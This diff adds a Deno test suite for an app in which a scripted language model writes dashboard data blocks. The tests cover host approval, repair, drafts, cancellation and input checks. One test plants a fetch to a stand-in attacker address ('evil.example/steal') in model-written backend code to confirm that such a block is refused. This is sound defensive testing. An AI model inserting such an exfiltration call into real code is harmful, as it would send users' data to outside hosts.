@@ -1,0 +1,164 @@
+import assert from "node:assert/strict";
+import type { GenerationView } from "./types.ts";
+import { answers, inOrder, text, type WrittenBlock } from "../testing/model/scripts.ts";
+import { type ModelScript, type ScriptedModel, startScriptedModel } from "../testing/model/scripted_model.ts";
+import { currencyFacts } from "../testing/sites/frankfurter.ts";
+import { TEST_START, type TestProgram } from "../testing/start_program.ts";
+import { expectState, withProgram } from "../testing/with_program.ts";
+
+const SENTENCE = "How the euro did against the dollar this month, as a line, with my own words under it";
+const HOST = "api.frankfurter.dev";
+
+/** The prompt's own example: a block that a good model would write. */
+async function goodBlock(): Promise<WrittenBlock> {
+  const read = (file: string) => Deno.readTextFile(new URL(`../generation/example/${file}`, import.meta.url));
+  return {
+    manifest: JSON.parse(await read("manifest.json")),
+    backend: await read("backend.ts"),
+    view: await read("view.tsx"),
+  };
+}
+
+async function withModel(
+  script: ModelScript,
+  work: (program: TestProgram, model: ScriptedModel) => Promise<void>,
+): Promise<void> {
+  const model = await startScriptedModel(script);
+  try {
+    await withProgram((program) => work(program, model), {
+      model: { baseUrl: model.baseUrl, model: "scripted", apiKey: "sk-canary" },
+    });
+  } finally {
+    await model.close();
+  }
+}
+
+async function start({ app }: TestProgram, sentence = SENTENCE): Promise<GenerationView> {
+  const answer = await app.createFromSentence((await app.getDashboard()).id, sentence);
+  assert.equal(answer.kind, "started", JSON.stringify(answer));
+  if (answer.kind !== "started") throw new Error("not started");
+  return answer.generation;
+}
+
+Deno.test("a model's block waits for its hosts before its first request, then becomes a card with real data", async () => {
+  await withModel(inOrder(text(answers.json(await goodBlock()))), async (program, model) => {
+    const { app, maker, internet } = program;
+    const started = await start(program);
+    const waiting = await maker.wait(started.id);
+    assert.deepEqual([waiting.status, waiting.hosts], ["needs_approval", [HOST]]);
+    assert.equal(internet.seen.length, 0);
+    expectState(await app.getCard(started.blockId), "needs_you");
+
+    await app.approveHosts(started.blockId, [HOST]);
+    const ended = await maker.wait(started.id);
+    assert.equal(ended.status, "adopted", JSON.stringify(ended.diagnosis));
+    const card = await app.getCard(started.blockId);
+    expectState(card, "fresh");
+    assert.equal(card.title, "EUR / USD, 30 days");
+    const [point] = await app.listData(started.blockId);
+    const facts = currencyFacts("EUR", "USD", { nowMs: TEST_START, days: 30 });
+    assert.ok(JSON.stringify(point?.data).includes(String(facts.latest)), JSON.stringify(facts));
+    assert.equal(model.seen.length, 1);
+    assert.ok(card.tokens > 0);
+    assert.doesNotMatch(model.seen[0]?.body ?? "", /sk-canary/);
+  });
+});
+
+Deno.test("a block that fails its trial is repaired with the diagnosis, and its versions tell why", async () => {
+  const good = await goodBlock();
+  const bad = {
+    ...good,
+    backend: good.backend.replace(
+      "changePercent: (last.rate / first.rate - 1) * 100",
+      "changePercent: 'much'",
+    ),
+  };
+  assert.notEqual(bad.backend, good.backend);
+  await withModel(inOrder(text(answers.json(bad)), text(answers.json(good))), async (program, model) => {
+    await program.app.savePreferences({ ...await program.app.getPreferences(), allowPublicHosts: true });
+    const started = await start(program);
+    const ended = await program.maker.wait(started.id);
+    assert.deepEqual([ended.status, ended.attempt], ["adopted", 2], JSON.stringify(ended.diagnosis));
+    assert.match(model.seen[1]?.body ?? "", /changePercent/);
+    assert.ok(ended.steps.some(({ state }) => state === "failed"));
+    expectState(await program.app.getCard(started.blockId), "fresh");
+  });
+});
+
+Deno.test("a generation that never works keeps its best attempt as a draft, which can be tried again", async () => {
+  const good = await goodBlock();
+  const bad = {
+    ...good,
+    backend: good.backend.replace("return await response.json();", "throw new Error('no idea');"),
+  };
+  const worse = { ...bad, backend: `${bad.backend}\nlet x = ;` };
+  const script = inOrder(
+    text(answers.json(bad)),
+    text(answers.json(worse)),
+    text("I cannot do this"),
+    text(answers.json(good)),
+  );
+  await withModel(script, async (program) => {
+    const { app, maker } = program;
+    await app.savePreferences({ ...await app.getPreferences(), allowPublicHosts: true });
+    const started = await start(program);
+    const ended = await maker.wait(started.id);
+    assert.deepEqual([ended.status, ended.hasDraft], ["draft", true], JSON.stringify(ended));
+    const [draft] = await app.listVersions(started.blockId);
+    assert.equal(draft?.status, "draft");
+    assert.match((await app.getVersion(started.blockId, 1)).backend, /no idea/);
+    expectState(await app.getCard(started.blockId), "draft");
+
+    await app.retryGeneration(started.id);
+    const again = await maker.wait(started.id);
+    assert.equal(again.status, "adopted", JSON.stringify(again.diagnosis));
+    expectState(await app.getCard(started.blockId), "fresh");
+  });
+});
+
+Deno.test("cancelGeneration() ends a model that does not answer", async () => {
+  await withModel({ reply: () => ({ kind: "hang" }) }, async (program) => {
+    const started = await start(program);
+    await program.app.cancelGeneration(started.id);
+    assert.equal((await program.app.findGeneration(started.id))?.status, "cancelled");
+    expectState(await program.app.getCard(started.blockId), "draft");
+  });
+});
+
+Deno.test("a wrong key ends the generation with words for the person", async () => {
+  await withModel({ reply: () => ({ kind: "status", status: 401 }) }, async (program) => {
+    const started = await start(program);
+    const ended = await program.maker.wait(started.id);
+    assert.equal(ended.status, "failed");
+    assert.equal(ended.diagnosis?.move, "person");
+    assert.match(ended.diagnosis?.happened ?? "", /key/i);
+  });
+});
+
+Deno.test("a block that catches the refusal of an undeclared host and invents data is not adopted", async () => {
+  const good = await goodBlock();
+  const sly = {
+    ...good,
+    backend: good.backend.replace(
+      "const response = await fetch(",
+      "await fetch(`https://evil.${'example'}/steal`).catch(() => 0);\n  const response = await fetch(",
+    ),
+  };
+  await withModel(inOrder(text(answers.json(sly))), async (program) => {
+    await program.app.savePreferences({ ...await program.app.getPreferences(), allowPublicHosts: true });
+    const started = await start(program);
+    const ended = await program.maker.wait(started.id);
+    assert.equal(ended.status, "draft", JSON.stringify(ended.diagnosis));
+  });
+});
+
+Deno.test("createFromSentence() says honestly that nothing fits without a model, and refuses empty and endless ones", async () => {
+  await withProgram(async ({ app }) => {
+    const { id } = await app.getDashboard();
+    assert.equal((await app.createFromSentence(id, SENTENCE)).kind, "no_model");
+    assert.equal((await app.createFromSentence(id, "https://api.example.org/x.json")).kind, "address");
+    await assert.rejects(app.createFromSentence(id, "   \u200b "), /Say what you want to see/);
+    await assert.rejects(app.createFromSentence(id, "x".repeat(5_000)), /at most 4000/);
+    assert.deepEqual((await app.getDashboard()).cards, []);
+  });
+});
